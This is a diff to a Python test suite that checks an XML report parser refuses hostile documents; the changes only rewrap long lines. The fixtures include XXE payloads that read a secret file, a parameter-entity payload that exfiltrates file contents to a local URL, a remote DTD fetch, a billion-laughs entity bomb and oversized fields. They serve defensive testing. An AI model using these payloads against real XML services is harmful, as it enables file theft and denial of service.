@@ -136,14 +136,16 @@ def entity_attacks(secret: Path) -> dict[str, bytes]:
                        f"<report><reportId>&xxe;</reportId></report>".encode(),
         "xxe-in-value": f'<!DOCTYPE report [<!ENTITY xxe SYSTEM "{uri}">]><report><reportId>1</reportId>'
                         f"<incidentSummary><incidentType>&xxe;</incidentType></incidentSummary></report>".encode(),
-        "external-dtd": f'<!DOCTYPE report SYSTEM "{dtd.as_uri()}"><report><reportId>&plain;</reportId></report>'.encode(),
+        "external-dtd": f'<!DOCTYPE report SYSTEM "{dtd.as_uri()}">'
+                        f"<report><reportId>&plain;</reportId></report>".encode(),
         "parameter-entity": f'<!DOCTYPE report [<!ENTITY % ext SYSTEM "{dtd.as_uri()}"> %ext;]>'
                             f"<report><reportId>&leak;</reportId></report>".encode(),
         "parameter-entity-exfiltration": (
             f'<!DOCTYPE report [<!ENTITY % file SYSTEM "{uri}">'
             f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://127.0.0.1:9/?x=%file;\'>">%eval;%exfil;]>'
             f"<report><reportId>1</reportId></report>").encode(),
-        "network-dtd": b'<!DOCTYPE report SYSTEM "http://127.0.0.1:9/report.dtd"><report><reportId>1</reportId></report>',
+        "network-dtd": b'<!DOCTYPE report SYSTEM "http://127.0.0.1:9/report.dtd">'
+                       b"<report><reportId>1</reportId></report>",
     }
 
 
@@ -167,7 +169,8 @@ def test_an_xinclude_is_not_followed(secret):
 def _laughs(levels: int = 10, fan: int = 10) -> bytes:
     decl = '<!ENTITY lol0 "lol">' + "".join(
         f'<!ENTITY lol{i} "{f"&lol{i - 1};" * fan}">' for i in range(1, levels))
-    return f'<?xml version="1.0"?><!DOCTYPE report [{decl}]><report><reportId>&lol{levels - 1};</reportId></report>'.encode()
+    body = f"<report><reportId>&lol{levels - 1};</reportId></report>"
+    return f'<?xml version="1.0"?><!DOCTYPE report [{decl}]>{body}'.encode()
 
 
 @pytest.mark.parametrize("name, data, reason", [
@@ -201,7 +204,8 @@ def test_hostile_documents_are_refused_in_bounded_memory(name, data, reason):
 
 @pytest.mark.parametrize("name, data, field, reason", [
     ("big-text-in-a-field", xml("<incidentSummary><incidentType>" + "x" * 5_000_000
-                                + "</incidentType></incidentSummary>"), "report/incidentSummary/incidentType", "longer than"),
+                                + "</incidentType></incidentSummary>"),
+     "report/incidentSummary/incidentType", "longer than"),
     ("big-attribute-in-a-field", xml('<fileDetails><originalFileHash hashType="' + "A" * 5_000_000 + f'">{MD5}'
                                      "</originalFileHash></fileDetails>"),
      "fileDetails[1]/originalFileHash[1]", "unknown hash type"),
